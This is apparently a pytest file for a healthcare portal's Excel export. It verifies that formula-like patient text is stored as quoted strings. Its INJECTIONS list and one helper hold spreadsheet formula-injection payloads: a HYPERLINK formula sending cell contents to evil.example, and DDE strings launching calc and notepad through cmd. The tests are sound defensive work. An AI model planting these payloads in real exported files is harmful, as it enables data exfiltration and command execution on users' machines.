"""The Excel export writes every text as text (issue 12): a name, diagnosis or free text that starts like a
formula ("=", "+", "-", "@", tab, carriage return) is a string cell, never a formula, and carries the quote
prefix so that editing the cell in a spreadsheet does not turn it into one; characters a workbook cannot
hold do not break the file. Read back with openpyxl."""
from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from portal.export import DATE, DAYS, NUMBER, XLSX_HEADER_ROW, Column, Table, to_xlsx

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
    "=1+1",
    "+46 70 123 45 67",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "#N/A",
    "=cmd|' /C notepad'!'A1'",
]


def _table(rows: list[list], *, title: str = "Pågående sjukfall", unit: str = "Vårdcentralen",
           printed_by: str = "Lena Forsberg") -> Table:
    columns = [Column("name", "Namn"), Column("diagnosis", "Diagnos"), Column("age", "Ålder", NUMBER),
               Column("days", "Längd", DAYS), Column("start", "Start", DATE)]
    return Table(title=title, unit_name=unit, printed_at=datetime(2026, 11, 23, 10, 0), printed_by=printed_by,
                 count_text=f"{len(rows)} sjukfall", columns=columns, rows=rows)


def _cells(data: bytes):
    ws = load_workbook(io.BytesIO(data)).active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_texts_that_look_like_formulas_are_stored_as_strings_with_the_quote_prefix():
    rows = [[value, value, 40, 12, date(2026, 11, 1)] for value in INJECTIONS]
    cells = _cells(to_xlsx(_table(rows)))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.data_type == "e"]
    body = [c for c in cells if c.row > XLSX_HEADER_ROW and c.column <= 2]
    # exactly the text, nothing added (XML reads a carriage return back as a line feed)
    assert [c.value for c in body] == [v.replace("\r", "\n") for v in INJECTIONS for _ in (0, 1)]
    assert all(c.data_type == "s" for c in body)
    for c in body:
        assert c.quotePrefix == c.value.startswith(("=", "+", "-", "@", "\t", "\n")), (c.coordinate, c.value)


def test_numbers_and_dates_stay_typed_next_to_the_texts():
    cells = _cells(to_xlsx(_table([["=1+1", "M54.5", 40, 12, date(2026, 11, 1)]])))
    by_column = {c.column: c for c in cells if c.row == XLSX_HEADER_ROW + 1}
    assert by_column[3].data_type == "n" and by_column[3].value == 40
    assert by_column[4].data_type == "n" and by_column[4].value == 12
    assert by_column[5].is_date and by_column[5].value == datetime(2026, 11, 1)
    assert by_column[2].value == "M54.5" and not by_column[2].quotePrefix


@pytest.mark.parametrize("where", ["unit", "printed_by", "row"])
def test_the_lines_above_the_table_are_text_too(where):
    evil = "=HYPERLINK(\"http://evil.example\")"
    table = _table([["Anna", evil if where == "row" else "M54.5", 40, 12, None]],
                   **({"unit": evil} if where == "unit" else {"printed_by": evil} if where == "printed_by" else {}))
    cells = _cells(to_xlsx(table))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(evil in c.value for c in cells if isinstance(c.value, str))


def test_control_characters_do_not_break_the_file():
    table = _table([["Anna\x00\x01 Svensson", "Ont\x0bi ryggen\ttab\nny rad", 40, None, None]],
                   unit="Enhet\x1f")
    cells = _cells(to_xlsx(table))
    values = [c.value for c in cells]
    assert "Anna\ufffd\ufffd Svensson" in values and "Ont\ufffdi ryggen\ttab\nny rad" in values
    assert not [c for c in cells if c.data_type == "f"]


def test_a_text_column_holding_only_a_sign_is_text():
    # a masked or empty-looking value such as "-" is text, not a number or a formula
    cells = _cells(to_xlsx(_table([["-", "+", 1, 1, None]])))
    body = {c.column: c for c in cells if c.row == XLSX_HEADER_ROW + 1}
    assert (body[1].value, body[1].data_type, body[2].value, body[2].data_type) == ("-", "s", "+", "s")

